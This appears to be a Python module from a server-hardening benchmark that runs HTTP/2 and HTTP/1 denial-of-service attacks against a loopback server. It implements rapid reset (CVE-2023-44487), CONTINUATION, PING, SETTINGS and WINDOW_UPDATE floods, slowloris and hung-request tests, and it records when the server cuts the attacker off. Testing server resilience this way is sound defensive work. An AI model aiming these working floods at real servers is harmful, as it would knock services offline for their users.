"""The attackers of ``python -m bench.abuse``: hostile clients and broken origins.

Each attack runs for a bounded window against one loopback URL and returns an
:class:`Outcome`: when the server cut the attacker off (ms after the attack started,
or None if it never did within the window) and what the attacker received. HTTP/2
frames are written as raw bytes (a 9-byte frame header and a payload), so a flood
costs the attacker next to nothing and is not limited by a client library's own
state machine; the connection preface and the header blocks come from ``h2``/``hpack``.
"""

from __future__ import annotations

import multiprocessing
import selectors
import socket
import socketserver
import ssl
import struct
import time
from dataclasses import dataclass
from typing import Callable

__all__ = [
    "FrameScanner", "Origin", "Outcome", "continuation_flood", "frame", "hung_requests", "ping_flood",
    "rapid_reset_burst", "rapid_reset_sustained", "request_block", "reset_pairs", "settings_flood",
    "slowloris", "window_update_flood",
]

# Frame types and flags (RFC 9113 §6).
_HEADERS, _RST, _SETTINGS, _PING, _GOAWAY, _WINDOW_UPDATE, _CONTINUATION = 1, 3, 4, 6, 7, 8, 9
_END_STREAM, _END_HEADERS = 0x1, 0x4
_CANCEL = 0x8
_GOAWAY_CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
                 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 11: "ENHANCE_YOUR_CALM"}

#: Bytes written per send while flooding (many frames per system call).
_BATCH_BYTES = 16384


@dataclass
class Outcome:
    """What one attack achieved: ``cut_off_ms`` is None when the server never cut
    the attacker off within the window; ``received`` says what came back."""

    cut_off_ms: float | None
    received: str
    frames_sent: int = 0


def frame(ftype: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame as raw bytes."""
    return struct.pack(">I", len(payload))[1:] + bytes((ftype, flags)) + struct.pack(">I", stream_id) + payload


def request_block(port: int) -> bytes:
    """A stateless HPACK block for ``GET /`` (nothing enters the dynamic table, so
    the same bytes are valid on every stream)."""
    import hpack

    headers = [(":method", "GET"), (":scheme", "https"), (":path", "/"), (":authority", f"127.0.0.1:{port}")]
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(n, v) for n, v in headers])


class FrameScanner:
    """Reads the server's side of an HTTP/2 connection: GOAWAY code, RST_STREAM count."""

    def __init__(self) -> None:
        self.buf = bytearray()
        self.goaway: str | None = None
        self.resets = 0
        self.responses = 0

    def feed(self, data: bytes) -> None:
        buf = self.buf
        buf += data
        pos = 0
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos:pos + 3], "big")
            if len(buf) - pos < 9 + length:
                break
            ftype = buf[pos + 3]
            payload = buf[pos + 9:pos + 9 + length]
            if ftype == _GOAWAY and self.goaway is None and length >= 8:
                code = int.from_bytes(payload[4:8], "big")
                self.goaway = _GOAWAY_CODES.get(code, str(code))
            elif ftype == _RST:
                self.resets += 1
            elif ftype == _HEADERS:
                self.responses += 1
            pos += 9 + length
        del buf[:pos]

    def summary(self, closed: str | None) -> str:
        parts = []
        if self.goaway is not None:
            parts.append(f"GOAWAY {self.goaway}")
        if self.resets:
            parts.append(f"{self.resets} RST_STREAM")
        if self.responses:
            parts.append(f"{self.responses} responses")
        if closed and self.goaway is None:
            parts.append(closed)
        return ", ".join(parts) or "nothing"


class _H2Attacker:
    """A TLS connection speaking HTTP/2 (preface and SETTINGS sent), then raw frames."""

    def __init__(self, port: int, timeout: float = 5.0) -> None:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        self.sock = ctx.wrap_socket(raw, server_hostname="localhost")
        if self.sock.selected_alpn_protocol() != "h2":
            self.sock.close()
            raise RuntimeError("the server did not choose h2")
        self.scanner = FrameScanner()
        self.pending: memoryview | None = None
        self.closed: str | None = None
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(_SETTINGS, 0, 0))

    def send(self, data: bytes, timeout: float = 0.2) -> bool:
        """Queue ``data`` and write for up to ``timeout`` s. False when earlier bytes
        are still unwritten (the server is not reading), and ``data`` was not taken.

        TLS needs a write that timed out to be retried with the same bytes, so the
        unwritten rest is kept and written first; frames are never cut in two.
        """
        if self.closed:
            return False
        accepted = self.pending is None
        if accepted:
            self.pending = memoryview(data)
        deadline = time.monotonic() + timeout
        try:
            while self.pending:
                left = deadline - time.monotonic()
                if left <= 0:
                    break
                self.sock.settimeout(left)
                self.pending = self.pending[self.sock.send(self.pending[:16384]):]
        except (socket.timeout, ssl.SSLWantWriteError):
            pass
        except (ssl.SSLError, OSError) as exc:
            self.closed = _closed_reason(exc)
        if self.pending is not None and not self.pending:
            self.pending = None
        return accepted

    def poll(self, wait: float = 0.0) -> None:
        """Read whatever the server sent so far (up to ``wait`` s for the first byte)."""
        if self.closed:
            return
        self.sock.settimeout(wait if wait > 0 else 0.0)
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    self.closed = "EOF"
                    return
                self.scanner.feed(data)
                self.sock.settimeout(0.0)
        except (socket.timeout, ssl.SSLWantReadError, BlockingIOError):
            return
        except (ssl.SSLError, OSError) as exc:
            self.closed = _closed_reason(exc)

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass

    def outcome(self, cut_ms: float | None, frames: int) -> Outcome:
        return Outcome(cut_ms, self.scanner.summary(self.closed), frames)


def _closed_reason(exc: BaseException) -> str:
    if isinstance(exc, ConnectionResetError):
        return "RST"
    if isinstance(exc, (BrokenPipeError, ssl.SSLEOFError, ssl.SSLZeroReturnError)):
        return "closed"
    return type(exc).__name__


def _flood(port: int, window: float, unit: bytes, *, reads: bool,
           prologue: bytes = b"") -> Outcome:
    """Send ``unit`` (one or more frames) over and over for ``window`` s."""
    attacker = _H2Attacker(port)
    per_batch = max(1, _BATCH_BYTES // len(unit))
    batch = unit * per_batch
    frames_per_unit = _count_frames(unit)
    start = time.monotonic()
    deadline = start + window
    sent = 0
    cut = None
    try:
        if prologue:
            attacker.send(prologue)
        while time.monotonic() < deadline:
            if attacker.send(batch):
                sent += per_batch * frames_per_unit
            if reads:
                attacker.poll()
            if attacker.closed or attacker.scanner.goaway is not None:
                cut = (time.monotonic() - start) * 1000
                break
        outcome = attacker.outcome(cut, sent)
        if cut is None:
            # A client that never read looks once at the end, to learn what it missed.
            attacker.poll(wait=0.2)
            if attacker.closed or attacker.scanner.goaway is not None:
                outcome = attacker.outcome(None, sent)
                outcome.received += " (read after the window)"
        return outcome
    finally:
        attacker.close()


def _count_frames(data: bytes) -> int:
    n, pos = 0, 0
    while pos + 9 <= len(data):
        pos += 9 + int.from_bytes(data[pos:pos + 3], "big")
        n += 1
    return n


def ping_flood(port: int, window: float) -> Outcome:
    """PING frames as fast as the server takes them, never reading the ACKs."""
    return _flood(port, window, frame(_PING, 0, 0, b"\0" * 8), reads=False)


def settings_flood(port: int, window: float) -> Outcome:
    """SETTINGS frames (each owes an ACK), never reading the ACKs."""
    return _flood(port, window, frame(_SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535)), reads=False)


def window_update_flood(port: int, window: float) -> Outcome:
    """Connection-level WINDOW_UPDATE frames of increment 1 (no reply owed)."""
    return _flood(port, window, frame(_WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), reads=True)


def reset_pairs(block: bytes, first_id: int, count: int) -> bytes:
    out = bytearray()
    for sid in range(first_id, first_id + 2 * count, 2):
        out += frame(_HEADERS, _END_STREAM | _END_HEADERS, sid, block)
        out += frame(_RST, 0, sid, struct.pack(">I", _CANCEL))
    return bytes(out)


def rapid_reset_sustained(port: int, window: float) -> Outcome:
    """HEADERS then RST_STREAM(CANCEL) on a new stream, batch after batch (CVE-2023-44487)."""
    attacker = _H2Attacker(port)
    block = request_block(port)
    start = time.monotonic()
    deadline = start + window
    sid, sent, cut = 1, 0, None
    try:
        while time.monotonic() < deadline and sid < 2**31 - 400:
            if attacker.send(reset_pairs(block, sid, 100)):
                sid += 200
                sent += 200
            attacker.poll()
            if attacker.closed or attacker.scanner.goaway is not None:
                cut = (time.monotonic() - start) * 1000
                break
        return attacker.outcome(cut, sent)
    finally:
        attacker.close()


def rapid_reset_burst(port: int, window: float, pairs: int = 10_000) -> Outcome:
    """``pairs`` HEADERS+RST_STREAM pairs in one write, then wait for the verdict."""
    attacker = _H2Attacker(port)
    burst = reset_pairs(request_block(port), 1, pairs)
    start = time.monotonic()
    deadline = start + window
    cut = None
    try:
        attacker.send(burst, timeout=window)
        while time.monotonic() < deadline:
            attacker.poll(wait=0.05)
            if attacker.closed or attacker.scanner.goaway is not None:
                cut = (time.monotonic() - start) * 1000
                break
        return attacker.outcome(cut, 2 * pairs)
    finally:
        attacker.close()


def continuation_flood(port: int, window: float) -> Outcome:
    """A HEADERS frame without END_HEADERS, then CONTINUATION frames that never end
    the block, each full of literal header fields."""
    import hpack

    field = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x-flood", "a" * 1000)])
    payload = field * max(1, 16384 // len(field))  # the largest frame a peer must accept
    head = frame(_HEADERS, _END_STREAM, 1, request_block(port))
    return _flood(port, window, frame(_CONTINUATION, 0, 1, payload), reads=True, prologue=head)


def _watch_closes(socks: list[socket.socket], start: float, deadline: float,
                  tick: Callable[[], None] | None = None, every: float = 1.0) -> tuple[list[float], list[bytes]]:
    """Wait until ``deadline`` for the server to answer or close each socket; calls
    ``tick`` every ``every`` s. Returns the close times (ms) and the first bytes of each reply."""
    sel = selectors.DefaultSelector()
    for s in socks:
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ)
    closes: list[float] = []
    replies: list[bytes] = []
    next_tick = time.monotonic() + every
    try:
        while sel.get_map() and time.monotonic() < deadline:
            for key, _ in sel.select(timeout=min(0.05, max(0.0, deadline - time.monotonic()))):
                s = key.fileobj
                try:
                    data = s.recv(4096)  # type: ignore[union-attr]
                except (BlockingIOError, InterruptedError):
                    continue
                except OSError:
                    data = b""
                if data:
                    replies.append(data[:64])
                closes.append((time.monotonic() - start) * 1000)
                sel.unregister(s)
            if tick is not None and time.monotonic() >= next_tick:
                next_tick += every
                tick()
    finally:
        sel.close()
    return closes, replies


def _describe(closes: list[float], replies: list[bytes], total: int) -> Outcome:
    if not closes:
        return Outcome(None, "nothing", 0)
    statuses: dict[str, int] = {}
    for r in replies:
        parts = r.split(b" ", 2)
        code = parts[1].decode("ascii", "replace") if len(parts) > 1 and r.startswith(b"HTTP/") else "?"
        statuses[code] = statuses.get(code, 0) + 1
    silent = len(closes) - len(replies)
    got = ", ".join(f"{n}× {code}" for code, n in sorted(statuses.items()))
    if silent:
        got = (got + ", " if got else "") + f"{silent}× closed silently"
    return Outcome(min(closes), f"{got} ({len(closes)}/{total} conns)", 0)


def slowloris(port: int, window: float, connections: int = 500) -> Outcome:
    """``connections`` HTTP/1 clients that send a partial head and one more header
    line every second, never finishing it."""
    socks = []
    start = time.monotonic()
    for _ in range(connections):
        s = socket.create_connection(("127.0.0.1", port), timeout=5)
        s.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        socks.append(s)
    deadline = start + window

    def trickle() -> None:
        for s in socks:
            try:
                s.send(b"X-Slow: 1\r\n")
            except OSError:
                pass

    try:
        closes, replies = _watch_closes(socks, start, deadline, trickle)
        return _describe(closes, replies, connections)
    finally:
        for s in socks:
            s.close()


def hung_requests(port: int, window: float, connections: int = 64) -> Outcome:
    """``connections`` clients each asking ``GET /`` through a front whose origin
    accepts and never answers; when and how does the front answer them?"""
    socks = []
    start = time.monotonic()
    for _ in range(connections):
        s = socket.create_connection(("127.0.0.1", port), timeout=5)
        s.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        socks.append(s)
    try:
        closes, replies = _watch_closes(socks, start, start + window)
        return _describe(closes, replies, connections)
    finally:
        for s in socks:
            s.close()


class _OriginHandler(socketserver.BaseRequestHandler):
    server: "_OriginServer"

    def handle(self) -> None:
        sock = self.request
        server = self.server
        buf = b""
        while True:
            while b"\r\n\r\n" not in buf:
                data = sock.recv(65536)
                if not data:
                    return
                buf += data
            _, _, buf = buf.partition(b"\r\n\r\n")
            with server.requests.get_lock():
                server.requests.value += 1
            if server.hang.is_set():
                while sock.recv(65536):  # silent until the front hangs up
                    pass
                return
            sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Type: text/plain\r\n\r\nhello")


class _OriginServer(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True
    request_queue_size = 1024

    def __init__(self, requests, hang) -> None:
        self.requests = requests
        self.hang = hang
        super().__init__(("127.0.0.1", 0), _OriginHandler)


class Origin:
    """An origin that counts the request heads it gets (``requests``) and answers
    ``200 hello``; after :meth:`hang` it reads every request and never answers
    (fronts still start and prove their chain first).

    It runs in a child process, so the harness's own threads (the attackers) do not
    slow it down through the GIL; the count and the switch are shared with it.
    """

    def __init__(self) -> None:
        ctx = multiprocessing.get_context("fork")
        self._requests = ctx.Value("q", 0)
        self._hang = ctx.Event()
        server = _OriginServer(self._requests, self._hang)
        self.port = server.server_address[1]
        self._proc = ctx.Process(target=server.serve_forever, name="bench-origin", daemon=True)
        self._proc.start()
        server.server_close()  # the child has its own copy of the listening socket

    @property
    def requests(self) -> int:
        return self._requests.value

    def hang(self, on: bool = True) -> None:
        if on:
            self._hang.set()
        else:
            self._hang.clear()

    def close(self) -> None:
        self._proc.terminate()
        self._proc.join(5)
